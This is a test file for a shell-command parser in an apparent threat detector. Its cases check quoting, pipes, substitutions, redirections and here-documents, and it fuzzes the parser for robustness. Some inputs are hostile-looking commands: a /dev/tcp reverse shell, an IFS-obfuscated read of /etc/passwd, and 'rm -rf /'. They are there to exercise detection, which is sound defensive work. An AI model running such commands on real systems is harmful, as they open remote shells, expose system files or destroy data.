// Command lines are read as a shell reads them: quotes undone, pipes joined, inner lists found, nothing refused.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { parseScript } from '../../../../../detectors/process/threats/shell/parse.ts';

const shape = (text: string): string[] => parseScript(text).map(({ program, args }) => [program, ...args].join('·'));

test.each([
  { text: 'ls -l /tmp', commands: ['ls·-l·/tmp'] },
  { text: `echo 'a b' "c d" e\\ f`, commands: ['echo·a b·c d·e f'] },
  { text: `c'ur'l "ht"tp://h`, commands: ['curl·http://h'] },
  { text: 'a; b && c || d & e\nf', commands: ['a', 'b', 'c', 'd', 'e', 'f'] },
  { text: 'if test -f x; then cat x; fi', commands: ['test·-f·x', 'cat·x', 'fi'] },
  { text: '(a; b) | c', commands: ['a', 'b', 'c'] },
  { text: 'a # comment ; b', commands: ['a'] },
  { text: "printf $'\\x2fbin\\057sh'", commands: ['printf·/bin/sh'] },
  { text: `cat\${IFS}/etc/passwd`, commands: ['cat·/etc/passwd'] },
  { text: `echo \${a:-b c}`, commands: [`echo·\${a:-b c}`] },
  { text: 'x=1', commands: [''] },
  { text: "echo 'never closed", commands: ['echo·never closed'] },
])('$text', ({ text, commands }) => {
  expect(shape(text)).toEqual(commands);
});

test('what stands in a substitution is a command of its own, before the one it stands in', () => {
  expect(shape('echo "$(cat a | head)" `id`')).toEqual(['cat·a', 'head', 'id', 'echo·$(cat a | head)·`id`']);
  expect(shape('diff <(sort a) b')).toEqual(['sort·a', 'diff·<(sort a)·b']);
});

test('a command behind a pipe knows whose output it reads', () => {
  const [a, b, c] = parseScript('(a 1; a 2) | b; c');
  expect([a?.name, b?.name, c?.name]).toEqual(['a', 'a', 'b']);
  expect(c?.previous?.args).toEqual(['2']);
  expect(parseScript('x || y')[1]?.previous).toBeUndefined();
});

test('redirections keep their descriptor, operator and target', () => {
  expect(parseScript('sh -i >& /dev/tcp/h/1 0>&1 2>>log &>all <in')[0]?.redirects).toEqual([
    { operator: '>&', descriptor: 1, target: '/dev/tcp/h/1' },
    { operator: '>&', descriptor: 0, target: '1' },
    { operator: '>>', descriptor: 2, target: 'log' },
    { operator: '&>', descriptor: -1, target: 'all' },
    { operator: '<', descriptor: 0, target: 'in' },
  ]);
});

test('the body of a here-document is text, not commands', () => {
  const commands = parseScript('cat <<EOF > f\nrm -rf /\nEOF\nls');
  expect(commands.map(({ name }) => name)).toEqual(['cat', 'ls']);
  expect(commands[0]?.redirects[0]?.target).toBe('rm -rf /\n');
});

test('any text is read to its end without an error', () => {
  const piece = fc.constantFrom(
    'a',
    ' ',
    "'",
    '"',
    '`',
    '$(',
    ')',
    '(',
    '{',
    '}',
    '|',
    ';',
    '&',
    '<',
    '>',
    '<<E',
    '\n',
    '\\',
    '$',
    '#',
    '${',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      expect(Array.isArray(parseScript(pieces.join('')))).toBe(true);
    }),
    { numRuns: 2_000, seed: 7 },
  );
});
